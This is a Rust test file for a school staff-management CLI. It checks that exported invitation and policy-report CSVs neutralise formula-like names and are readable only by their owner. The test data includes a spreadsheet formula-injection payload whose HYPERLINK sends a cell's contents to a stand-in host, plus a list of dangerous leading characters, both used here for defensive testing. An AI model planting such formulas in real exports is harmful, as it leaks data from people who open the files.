//! The office's command-line tools (`haven import`, `haven invite`, `haven aup report`), run as
//! the binary in a temp directory with a fresh database: what they write, what they refuse, and
//! what the files they leave behind allow.

use std::path::Path;
use std::process::{Command, Output, Stdio};

/// A key (base64 of 32 bytes).
const KEY: &str = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
pub const STAFF: &str = include_str!("../../examples/staff.csv");

/// `haven ARGS` in `dir` with the school's database and key, and nothing else.
pub fn haven(dir: &Path, args: &[&str]) -> (String, String, bool) {
    haven_with(dir, args, &[("HAVEN_SECRETS__KEY", KEY)])
}

/// `haven ARGS` in `dir` with the database and exactly the environment `env`.
pub fn haven_with(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> (String, String, bool) {
    let mut c = Command::new(env!("CARGO_BIN_EXE_haven"));
    c.current_dir(dir)
        .env_clear()
        .env("HAVEN_DATABASE__URL", dir.join("haven.db"))
        .args(args);
    for (k, v) in env {
        c.env(k, v);
    }
    let Output {
        status,
        stdout,
        stderr,
    } = c.stdin(Stdio::null()).output().expect("haven runs");
    (
        String::from_utf8_lossy(&stdout).to_string(),
        String::from_utf8_lossy(&stderr).to_string(),
        status.success(),
    )
}

/// Writes `text` to `dir/name` and returns the path as an argument.
pub fn file(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[test]
fn a_name_that_is_a_formula_is_written_as_text_and_the_invitations_are_the_owners_only() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let staff = format!(
        "{STAFF}STF050,\"=HYPERLINK(\"\"https://x.example/?c=\"\"&D2,\"\"Click\"\")\",staff,\n\
         STF051,@SUM(1+1),staff,\nSTF052,+44 7700 900123,staff,\nSTF053,-Dee,staff,\n"
    );
    let (_, err, ok) = haven(d, &["import", "staff", &file(d, "staff.csv", &staff)]);
    assert!(ok, "{err}");
    let (_, err, ok) = haven(d, &["invite", "--all", "--out", "invite.csv"]);
    assert!(ok, "{err}");

    let csv = std::fs::read_to_string(d.join("invite.csv")).unwrap();
    let mut names = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = names.records().map(|r| r.unwrap()[1].to_string()).collect();
    for formula in [
        "'=HYPERLINK(\"https://x.example/?c=\"&D2,\"Click\")",
        "'@SUM(1+1)",
        "'+44 7700 900123",
        "'-Dee",
    ] {
        assert!(names.iter().any(|n| n == formula), "{formula} in {names:?}");
    }
    assert!(names.iter().any(|n| n == "Margaret Thornbury"));
    let mut cells = csv::Reader::from_reader(csv.as_bytes());
    for row in cells.records() {
        for cell in row.unwrap().iter() {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "{cell:?} would run"
            );
        }
    }
    #[cfg(unix)]
    assert_eq!(mode(&d.join("invite.csv")), 0o600, "live codes: owner only");
}

#[test]
fn the_aup_report_neutralises_names_and_is_the_owners_only() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let staff = format!("{STAFF}STF050,=1+2,staff,\n");
    assert!(haven(d, &["import", "staff", &file(d, "staff.csv", &staff)]).2);
    let policy = file(d, "aup.md", "# Staff AUP\n\nBe kind online.\n");
    let (_, err, ok) = haven(
        d,
        &[
            "aup",
            "publish",
            "--file",
            &policy,
            "--title",
            "Staff AUP",
            "--version",
            "1",
            "--audience",
            "staff",
        ],
    );
    assert!(ok, "{err}");
    let (_, err, ok) = haven(d, &["aup", "report", "--csv", "--out", "aup.csv"]);
    assert!(ok, "{err}");
    let csv = std::fs::read_to_string(d.join("aup.csv")).unwrap();
    assert!(csv.contains(",'=1+2,"), "{csv}");
    assert!(!csv.contains(",=1+2,"), "{csv}");
    #[cfg(unix)]
    assert_eq!(mode(&d.join("aup.csv")), 0o600, "personal data: owner only");
}
